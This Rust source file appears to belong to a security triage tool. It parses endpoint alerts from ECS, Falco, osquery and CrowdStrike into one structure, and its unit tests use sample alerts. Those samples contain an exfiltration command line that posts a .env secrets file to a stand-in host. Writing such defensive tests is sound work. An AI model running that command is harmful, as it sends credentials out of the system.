//! An endpoint alert, read from what the tool wrote: a generic alert in ECS field names
//! (nested objects or dotted keys), Falco's JSON output, an osquery result-log line
//! (event, batch or snapshot form), or a CrowdStrike detection summary event (the
//! streaming API's `{"metadata", "event"}` or the flat form SIEMs store). Field names
//! are the vendors' own (docs/triage.md lists them).

use serde_json::{Map, Value};

use crate::time;

/// Which tool wrote it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Ecs,
    Falco,
    Osquery,
    CrowdStrike,
}

impl Format {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Ecs => "ecs",
            Self::Falco => "falco",
            Self::Osquery => "osquery",
            Self::CrowdStrike => "crowdstrike",
        }
    }
}

/// The alert, in the terms correlation uses. Every field is optional: tools report
/// different subsets.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct Alert {
    pub format: Option<Format>,
    pub rule: Option<String>,
    pub severity: Option<String>,
    /// When it happened (ms since the epoch).
    pub at: Option<i64>,
    pub host: Option<String>,
    pub user: Option<String>,
    pub pid: Option<u32>,
    pub parent_pid: Option<u32>,
    /// Further ancestors' pids (grandparent first), where the tool reports them.
    pub ancestors: Vec<u32>,
    /// When the process started (ms since the epoch).
    pub process_started: Option<i64>,
    pub executable: Option<String>,
    pub command_line: Option<String>,
    pub parent_executable: Option<String>,
    pub parent_command_line: Option<String>,
    pub file_path: Option<String>,
    pub destination_ip: Option<String>,
    pub destination_domain: Option<String>,
    pub destination_port: Option<u16>,
}

/// Why an alert could not be read.
#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum AlertError {
    #[error("the alert is not JSON: {0}")]
    NotJson(String),
    #[error("the alert is a JSON {0}, not an object")]
    NotAnObject(&'static str),
    #[error(
        "the alert has none of the fields triage reads. Looked for: ECS `@timestamp`, `host.hostname`, `user.name`, `process.pid`, `process.executable`, `process.command_line`, `process.parent.pid`, `process.parent.executable`, `file.path`, `destination.ip`, `destination.domain`, `destination.port`, `rule.name`, `event.severity`; Falco `rule` with `output_fields`; osquery `hostIdentifier` or `name` with `columns`, `snapshot` or `diffResults`; CrowdStrike `metadata.eventType` = `DetectionSummaryEvent` or `ComputerName` with `DetectName`. Found: {0}"
    )]
    Unknown(String),
}

impl Alert {
    /// Whether it says anything correlation can use.
    pub fn is_empty(&self) -> bool {
        self.at.is_none()
            && self.host.is_none()
            && self.user.is_none()
            && self.pid.is_none()
            && self.parent_pid.is_none()
            && self.executable.is_none()
            && self.command_line.is_none()
            && self.file_path.is_none()
            && self.destination_ip.is_none()
            && self.destination_domain.is_none()
            && self.rule.is_none()
    }

    /// The alert as the report shows it.
    pub fn summary(&self) -> warden_protocol::AlertSummary {
        let destination = match (&self.destination_domain, &self.destination_ip) {
            (Some(d), _) | (None, Some(d)) => Some(match self.destination_port {
                Some(p) => format!("{d}:{p}"),
                None => d.clone(),
            }),
            _ => None,
        };
        warden_protocol::AlertSummary {
            format: self.format.map_or("ecs", Format::as_str).into(),
            rule: self.rule.clone(),
            severity: self.severity.clone(),
            at: self.at,
            host: self.host.clone(),
            user: self.user.clone(),
            pid: self.pid,
            parent_pid: self.parent_pid,
            executable: self.executable.clone(),
            command_line: self.command_line.clone(),
            file_path: self.file_path.clone(),
            destination,
        }
    }

    /// Whether the alert is high or critical, however the tool spells it.
    pub fn is_severe(&self) -> bool {
        let Some(s) = &self.severity else {
            return false;
        };
        let s = s.to_ascii_lowercase();
        if let Ok(n) = s.parse::<f64>() {
            // ECS's event.severity and CrowdStrike's Severity are numbers: 0-100 or 1-5.
            return if n > 5.0 { n >= 70.0 } else { n >= 4.0 };
        }
        ["high", "critical", "emergency", "alert", "error", "severe"]
            .iter()
            .any(|w| s.contains(w))
    }
}

/// Read an alert. A file of several lines (an osquery log) is read from its first line
/// that is a JSON object.
pub fn parse(text: &str) -> Result<Alert, AlertError> {
    let value: Value = match serde_json::from_str(text.trim()) {
        Ok(v) => v,
        Err(whole) => text
            .lines()
            .map(str::trim)
            .filter(|l| l.starts_with('{'))
            .find_map(|l| serde_json::from_str(l).ok())
            .ok_or_else(|| AlertError::NotJson(whole.to_string()))?,
    };
    let Value::Object(obj) = value else {
        return Err(AlertError::NotAnObject(match value {
            Value::Array(_) => "array",
            Value::String(_) => "string",
            Value::Number(_) => "number",
            Value::Bool(_) => "boolean",
            _ => "null",
        }));
    };
    let alert = if is_crowdstrike(&obj) {
        crowdstrike(&obj)
    } else if obj.contains_key("output_fields") && obj.contains_key("rule") {
        falco(&obj)
    } else if is_osquery(&obj) {
        osquery(&obj)
    } else {
        ecs(&obj)
    };
    if alert.is_empty() {
        let mut keys: Vec<&str> = obj.keys().map(String::as_str).take(12).collect();
        keys.sort_unstable();
        return Err(AlertError::Unknown(if keys.is_empty() {
            "no fields".into()
        } else {
            keys.iter()
                .map(|k| format!("`{k}`"))
                .collect::<Vec<_>>()
                .join(", ")
        }));
    }
    Ok(alert)
}

/// A field by its dotted name: nested objects, a dotted key, or a mix of both
/// (`{"process": {"parent.pid": 1}}`).
fn get<'a>(obj: &'a Map<String, Value>, path: &str) -> Option<&'a Value> {
    if let Some(v) = obj.get(path) {
        return Some(v);
    }
    let mut split = path.len();
    while let Some(dot) = path[..split].rfind('.') {
        if let Some(Value::Object(inner)) = obj.get(&path[..dot])
            && let Some(v) = get(inner, &path[dot + 1..])
        {
            return Some(v);
        }
        split = dot;
    }
    None
}

/// A non-empty string field (numbers written as text).
fn text(obj: &Map<String, Value>, path: &str) -> Option<String> {
    match get(obj, path)? {
        Value::String(s) if !s.trim().is_empty() => Some(s.trim().to_string()),
        Value::Number(n) => Some(n.to_string()),
        _ => None,
    }
}

/// A number field, written as a number or as digits.
fn int(obj: &Map<String, Value>, path: &str) -> Option<i64> {
    match get(obj, path)? {
        Value::Number(n) => n.as_i64(),
        Value::String(s) => s.trim().parse().ok(),
        _ => None,
    }
}

/// A process id: the largest the kernel hands out is 2^22; anything larger is a tool's
/// own identifier (CrowdStrike's), not a pid.
fn pid(obj: &Map<String, Value>, path: &str) -> Option<u32> {
    int(obj, path)
        .filter(|p| (1..=4_194_304).contains(p))
        .map(|p| p as u32)
}

fn port(obj: &Map<String, Value>, path: &str) -> Option<u16> {
    int(obj, path).and_then(|p| u16::try_from(p).ok())
}

fn first_text(obj: &Map<String, Value>, paths: &[&str]) -> Option<String> {
    paths.iter().find_map(|p| text(obj, p))
}

/// An address field that is an IP, or a name.
fn split_destination(value: Option<String>) -> (Option<String>, Option<String>) {
    match value {
        Some(v) if v.parse::<std::net::IpAddr>().is_ok() => (Some(v), None),
        Some(v) => (None, Some(v)),
        None => (None, None),
    }
}

fn ecs(obj: &Map<String, Value>) -> Alert {
    Alert {
        format: Some(Format::Ecs),
        rule: first_text(
            obj,
            &["rule.name", "signal.rule.name", "kibana.alert.rule.name"],
        ),
        severity: first_text(
            obj,
            &["event.severity", "log.level", "kibana.alert.severity"],
        ),
        at: get(obj, "@timestamp").and_then(time::parse),
        host: first_text(obj, &["host.hostname", "host.name"]),
        user: first_text(obj, &["user.name", "process.user.name"]),
        pid: pid(obj, "process.pid"),
        parent_pid: pid(obj, "process.parent.pid"),
        ancestors: [
            "process.parent.parent.pid",
            "process.group_leader.pid",
            "process.session_leader.pid",
        ]
        .iter()
        .filter_map(|p| pid(obj, p))
        .collect(),
        process_started: get(obj, "process.start").and_then(time::parse),
        executable: text(obj, "process.executable"),
        command_line: text(obj, "process.command_line"),
        parent_executable: text(obj, "process.parent.executable"),
        parent_command_line: text(obj, "process.parent.command_line"),
        file_path: text(obj, "file.path"),
        destination_ip: text(obj, "destination.ip"),
        destination_domain: first_text(obj, &["destination.domain", "url.domain"]),
        destination_port: port(obj, "destination.port"),
    }
}

fn falco(obj: &Map<String, Value>) -> Alert {
    let empty = Map::new();
    let fields = obj
        .get("output_fields")
        .and_then(Value::as_object)
        .unwrap_or(&empty);
    // `fd.name` is a file's path, or a connection `client:port->server:port`.
    let fd_name = text(fields, "fd.name");
    let (file_path, connection) = match &fd_name {
        Some(name) if name.starts_with('/') => (Some(name.clone()), None),
        Some(name) if name.contains("->") => {
            (None, name.rsplit_once("->").map(|(_, s)| s.to_string()))
        }
        _ => (None, None),
    };
    let (conn_ip, conn_port) = match connection.as_deref().and_then(|c| c.rsplit_once(':')) {
        Some((ip, port)) => (
            Some(ip.trim_matches(['[', ']']).to_string()),
            port.parse().ok(),
        ),
        None => (None, None),
    };
    let ancestors = (2..=8)
        .filter_map(|n| pid(fields, &format!("proc.apid[{n}]")))
        .collect();
    Alert {
        format: Some(Format::Falco),
        rule: text(obj, "rule"),
        severity: text(obj, "priority"),
        at: get(fields, "evt.time")
            .and_then(time::parse)
            .or_else(|| get(obj, "time").and_then(time::parse)),
        host: first_text(obj, &["hostname"]).or_else(|| text(fields, "evt.hostname")),
        user: text(fields, "user.name"),
        pid: pid(fields, "proc.pid"),
        parent_pid: pid(fields, "proc.ppid").or_else(|| pid(fields, "proc.apid[1]")),
        ancestors,
        process_started: None,
        executable: first_text(fields, &["proc.exepath", "proc.exe"]),
        command_line: text(fields, "proc.cmdline"),
        parent_executable: first_text(fields, &["proc.pexepath", "proc.pexe", "proc.aexepath[1]"]),
        parent_command_line: text(fields, "proc.pcmdline"),
        file_path: file_path.or_else(|| text(fields, "fs.path.name")),
        destination_ip: first_text(fields, &["fd.sip", "fd.rip"]).or(conn_ip),
        destination_domain: first_text(fields, &["fd.sip.name", "fd.rip.name"]),
        destination_port: port(fields, "fd.sport")
            .or_else(|| port(fields, "fd.rport"))
            .or(conn_port),
    }
}

fn is_osquery(obj: &Map<String, Value>) -> bool {
    let rows = ["columns", "snapshot", "diffResults"]
        .iter()
        .any(|k| obj.contains_key(*k));
    rows && (obj.contains_key("hostIdentifier") || obj.contains_key("name"))
}

fn osquery(obj: &Map<String, Value>) -> Alert {
    let empty = Map::new();
    let row = obj
        .get("columns")
        .and_then(Value::as_object)
        .or_else(|| {
            obj.get("snapshot")
                .and_then(Value::as_array)
                .and_then(|rows| rows.first())
                .and_then(Value::as_object)
        })
        .or_else(|| {
            obj.get("diffResults")
                .and_then(|d| d.get("added"))
                .and_then(Value::as_array)
                .and_then(|rows| rows.first())
                .and_then(Value::as_object)
        })
        .unwrap_or(&empty);
    // file_events name the file `target_path`; process tables name the program `path`.
    let file_path = text(row, "target_path");
    let (ip, domain) = split_destination(first_text(row, &["remote_address", "address"]));
    Alert {
        format: Some(Format::Osquery),
        rule: text(obj, "name"),
        severity: None,
        at: get(obj, "unixTime")
            .and_then(time::parse)
            .or_else(|| get(obj, "calendarTime").and_then(time::parse))
            .or_else(|| get(row, "time").and_then(time::parse)),
        host: text(obj, "hostIdentifier").or_else(|| {
            obj.get("decorations")
                .and_then(Value::as_object)
                .and_then(|d| first_text(d, &["hostname", "host_name"]))
        }),
        user: first_text(row, &["username", "user"]),
        pid: pid(row, "pid"),
        parent_pid: pid(row, "parent"),
        ancestors: Vec::new(),
        process_started: get(row, "start_time").and_then(time::parse),
        executable: if file_path.is_some() {
            None
        } else {
            text(row, "path")
        },
        command_line: text(row, "cmdline"),
        parent_executable: None,
        parent_command_line: None,
        file_path,
        destination_ip: ip,
        destination_domain: domain,
        destination_port: port(row, "remote_port").filter(|p| *p != 0),
    }
}

fn is_crowdstrike(obj: &Map<String, Value>) -> bool {
    let event_type = get(obj, "metadata.eventType")
        .and_then(Value::as_str)
        .or_else(|| text_ref(obj, "ExternalApiType"))
        .or_else(|| text_ref(obj, "event.ExternalApiType"));
    event_type.is_some_and(|t| t.contains("DetectionSummaryEvent"))
        || (obj.contains_key("ComputerName") && obj.contains_key("DetectName"))
}

fn text_ref<'a>(obj: &'a Map<String, Value>, path: &str) -> Option<&'a str> {
    get(obj, path).and_then(Value::as_str)
}

fn crowdstrike(obj: &Map<String, Value>) -> Alert {
    // The streaming API nests the detection under `event`; SIEMs often store it flat.
    let event = match obj.get("event") {
        Some(Value::Object(inner))
            if inner.contains_key("ComputerName") || inner.contains_key("DetectName") =>
        {
            inner
        }
        _ => obj,
    };
    let executable = match (text(event, "FilePath"), text(event, "FileName")) {
        (Some(dir), Some(name)) if !dir.ends_with(&name) => {
            Some(format!("{}/{}", dir.trim_end_matches(['/', '\\']), name))
        }
        (Some(path), _) | (None, Some(path)) => Some(path),
        _ => None,
    };
    let network = event
        .get("NetworkAccesses")
        .and_then(Value::as_array)
        .and_then(|a| a.first())
        .and_then(Value::as_object);
    let (ip, domain) = split_destination(network.and_then(|n| text(n, "RemoteAddress")));
    Alert {
        format: Some(Format::CrowdStrike),
        rule: first_text(event, &["DetectName", "Tactic", "Technique"]),
        severity: first_text(event, &["SeverityName", "Severity"]),
        at: get(obj, "metadata.eventCreationTime")
            .or_else(|| get(event, "UTCTimestamp"))
            .or_else(|| get(event, "timestamp"))
            .and_then(time::parse),
        host: text(event, "ComputerName"),
        user: text(event, "UserName"),
        // CrowdStrike's ProcessId is the sensor's own id, not the OS pid: used only when
        // it is in the kernel's range.
        pid: pid(event, "ProcessId"),
        parent_pid: pid(event, "ParentProcessId"),
        ancestors: Vec::new(),
        process_started: get(event, "ProcessStartTime").and_then(time::parse),
        executable,
        command_line: text(event, "CommandLine"),
        parent_executable: text(event, "ParentImageFileName"),
        parent_command_line: text(event, "ParentCommandLine"),
        file_path: None,
        destination_ip: ip,
        destination_domain: domain,
        destination_port: network.and_then(|n| port(n, "RemotePort")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ecs_fields_read_nested_dotted_or_mixed() {
        let nested = r#"{"@timestamp": "2026-12-07T10:00:00Z", "host": {"hostname": "dev1"},
            "process": {"pid": 4242, "command_line": "curl -d @.env https://x", "parent": {"pid": 4200}},
            "destination": {"ip": "203.0.113.7", "port": 443}, "rule": {"name": "exfil"}}"#;
        let dotted = r#"{"@timestamp": "2026-12-07T10:00:00Z", "host.hostname": "dev1",
            "process.pid": "4242", "process.command_line": "curl -d @.env https://x", "process.parent.pid": 4200,
            "destination.ip": "203.0.113.7", "destination.port": "443", "rule.name": "exfil"}"#;
        let mixed = r#"{"@timestamp": "2026-12-07T10:00:00Z", "host": {"hostname": "dev1"},
            "process": {"pid": 4242, "command_line": "curl -d @.env https://x", "parent.pid": 4200},
            "destination.ip": "203.0.113.7", "destination": {"port": 443}, "rule.name": "exfil"}"#;
        let a = parse(nested).unwrap();
        assert_eq!(parse(dotted).unwrap(), a);
        assert_eq!(parse(mixed).unwrap(), a);
        assert_eq!(
            (a.pid, a.parent_pid, a.destination_port, a.host.as_deref()),
            (Some(4242), Some(4200), Some(443), Some("dev1"))
        );
        assert_eq!(a.at, Some(1_796_637_600_000));
    }

    #[test]
    fn unknown_shapes_and_non_json_say_what_was_looked_for() {
        let e = parse(r#"{"foo": 1, "bar": {"baz": 2}}"#)
            .unwrap_err()
            .to_string();
        assert!(e.contains("Looked for: ECS `@timestamp`"), "{e}");
        assert!(e.contains("Found: `bar`, `foo`"), "{e}");
        assert!(
            parse("not json")
                .unwrap_err()
                .to_string()
                .starts_with("the alert is not JSON:")
        );
        assert_eq!(parse("[1]").unwrap_err(), AlertError::NotAnObject("array"));
    }

    #[test]
    fn crowdstrike_ids_beyond_the_pid_range_are_not_pids() {
        let a = parse(
            r#"{"ComputerName": "mac", "DetectName": "NGAV", "ProcessId": 377077835340488700, "ParentProcessId": 812,
                "FilePath": "/usr/bin/", "FileName": "curl", "ProcessStartTime": 1796637600}"#,
        )
        .unwrap();
        assert_eq!((a.pid, a.parent_pid), (None, Some(812)));
        assert_eq!(a.executable.as_deref(), Some("/usr/bin/curl"));
        assert_eq!(a.process_started, Some(1_796_637_600_000));
    }
}
